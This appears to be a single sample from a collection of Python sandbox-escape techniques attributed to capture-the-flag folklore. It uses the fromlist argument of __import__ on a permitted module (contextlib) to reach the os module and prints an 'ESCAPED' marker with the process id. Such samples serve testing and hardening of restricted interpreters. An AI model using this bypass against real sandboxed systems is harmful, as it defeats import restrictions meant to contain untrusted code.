# technique: the fromlist asks for a module that a granted module has imported
# goal: import
# source: CTF folklore
module = __import__('contextlib', None, None, ['os'])
print('ESCAPED pid=%d' % module.os.getpid())
